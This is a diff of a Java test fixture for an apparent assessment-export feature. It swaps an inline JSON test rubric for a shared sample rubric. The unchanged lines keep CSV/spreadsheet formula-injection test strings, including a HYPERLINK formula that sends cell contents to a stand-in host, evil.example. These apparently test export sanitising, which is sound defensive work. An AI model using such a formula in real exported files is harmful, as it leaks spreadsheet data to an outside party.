@@ -2,8 +2,8 @@ package io.debtmeter.core.export;
 
 import io.debtmeter.core.assessment.AssessmentStore;
 import io.debtmeter.core.assessment.NewAssessment;
-import io.debtmeter.core.rubric.RubricLoader;
 import io.debtmeter.core.storage.MutableClock;
+import io.debtmeter.core.storage.SampleRubrics;
 import io.debtmeter.core.storage.SqliteAssessmentStore;
 import io.debtmeter.model.ActionItem;
 import io.debtmeter.model.ActionStatus;
@@ -13,7 +13,6 @@ import io.debtmeter.model.ItemResponse;
 import io.debtmeter.model.Rubric;
 import io.debtmeter.model.Team;
 
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
@@ -42,25 +41,6 @@ import java.util.Optional;
  */
 public final class ExportFixture {
 
-    public static final String RUBRIC = """
-            {
-              "id": "tiny", "version": "1.0", "title": "Tiny",
-              "scale": {"levels": [{"value": 0, "label": "No"}, {"value": 0.5, "label": "Half"}, {"value": 1, "label": "Yes"}]},
-              "aggregation": {"rule": "weighted-mean"},
-              "gradeBands": [{"label": "Good", "min": 0, "max": 50, "meaning": "little debt"},
-                             {"label": "Bad", "min": 50, "max": 100, "meaning": "much debt"}],
-              "categories": [{"id": "c1", "title": "One", "weight": 1}],
-              "items": [
-                {"id": "p1", "category": "c1", "kind": "practice", "title": "P1", "question": "Q1?", "why": "W",
-                 "levels": [{"value": 0, "descriptor": "not"}, {"value": 0.5, "descriptor": "half"}, {"value": 1, "descriptor": "done"}]},
-                {"id": "p2", "category": "c1", "kind": "practice", "title": "P2", "question": "Q2?", "why": "W",
-                 "levels": [{"value": 0, "descriptor": "not"}, {"value": 0.5, "descriptor": "half"}, {"value": 1, "descriptor": "done"}]},
-                {"id": "l1", "category": "c1", "kind": "litmus", "title": "L", "question": "Q?", "why": "W",
-                 "options": [{"id": "yes", "label": "Yes", "score": 1}, {"id": "no", "label": "No", "score": 0}]}
-              ]
-            }
-            """;
-
     public static final String NOTE_HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     public static final String NOTE_SUM = "@SUM(A1:A9)";
     public static final String NOTE_ARITHMETIC = "-1+2";
@@ -88,12 +68,9 @@ public final class ExportFixture {
         this.openAction = openAction;
     }
 
+    /** The storage tests' tiny rubric (p1, p2 on 0 / 0.5 / 1; litmus l1 yes / no; bands Good, Bad). */
     public static Rubric rubric() {
-        try {
-            return new RubricLoader().parse("tiny", RUBRIC.getBytes(StandardCharsets.UTF_8));
-        } catch (Exception e) {
-            throw new IllegalStateException(e);
-        }
+        return SampleRubrics.tiny();
     }
 
     /** Creates the database at {@code file}. */
